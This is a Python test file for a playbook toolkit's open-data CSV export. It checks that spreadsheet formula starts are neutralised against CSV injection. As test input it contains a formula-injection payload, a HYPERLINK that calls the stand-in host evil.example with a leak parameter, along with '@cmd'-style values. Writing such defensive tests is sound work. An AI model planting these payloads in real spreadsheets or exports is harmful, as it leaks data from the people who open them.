"""Hostile input and hostile surroundings: nothing unsafe is published, nothing is lost, and
no user mistake ends in a traceback.

Every playbook, logo and link target is written by someone else; these tests write the
attacks themselves and assert what the toolkit does with them.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from conftest import vary, write_playbook
from generator.playbook.loader import load_playbook
from generator.portal.opendata import open_data_csv, record_of, spreadsheet_safe

# --- Open data: no spreadsheet formulas (OWASP's CSV-injection rule) -------------------------


def test_a_formula_in_a_name_reaches_the_csv_as_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak=1","Småby")'
    text = vary("name: {fi: Pikkula, sv: Småby}", f"name: {{fi: '+SUM(1;2)', sv: '{formula}'}}")
    text = vary(
        "title: {fi: Huoli puheeksi, sv: Ta upp oron}", "title: {fi: '@cmd', sv: '-1+1'}", text
    )
    record = record_of(load_playbook(write_playbook(tmp_path, text)).playbook)
    rows = list(csv.DictReader(io.StringIO(open_data_csv([record]))))
    assert rows[0]["name_fi"] == "'+SUM(1;2)"
    assert rows[0]["name_sv"] == "'" + formula
    assert (rows[0]["stage_title_fi"], rows[0]["stage_title_sv"]) == ("'@cmd", "'-1+1")
    # What is not a formula is left alone, numbers included.
    assert rows[1]["stage_title_fi"] == "Verkosto"
    assert (rows[0]["threshold_grades_1_6"], rows[1]["threshold_grades_1_6"]) == ("0", "50")


def test_every_formula_start_is_neutralised() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1") == f"'{start}1"
    assert spreadsheet_safe("a=1") == "a=1"
    assert spreadsheet_safe(3) == 3
